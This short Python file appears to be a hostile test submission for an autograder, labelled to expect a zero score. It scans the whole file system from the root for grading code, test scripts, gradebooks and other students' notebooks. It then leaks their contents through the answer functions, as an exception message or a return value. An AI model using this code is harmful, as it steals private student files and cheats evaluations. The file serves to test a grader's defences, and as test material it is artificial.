"""Walks the whole file system from / for test files, grading code and other students' notebooks.

base: stub
expect: *=zero
"""
import os

_found = []
for _folder, _folders, _files in os.walk("/"):
    for _name in _files:
        if _name.endswith(".ipynb") or _name in ("results.json", "gradebook.csv", "otter_config.json") or (
                _name.endswith(".py") and any(word in _name for word in ("test_", "check", "metalearning"))):
            _path = os.path.join(_folder, _name)
            try:
                with open(_path) as _handle:
                    _found.append(_path + "\n" + _handle.read(20000))
            except Exception:
                _found.append(_path)
_found_text = "\n".join(_found)


def min_norm_solution(A, y):
    raise AssertionError("LEAK " + _found_text[:100000])


def weighted_min_norm(Phi, c, y):
    return "LEAK " + _found_text[:50000]
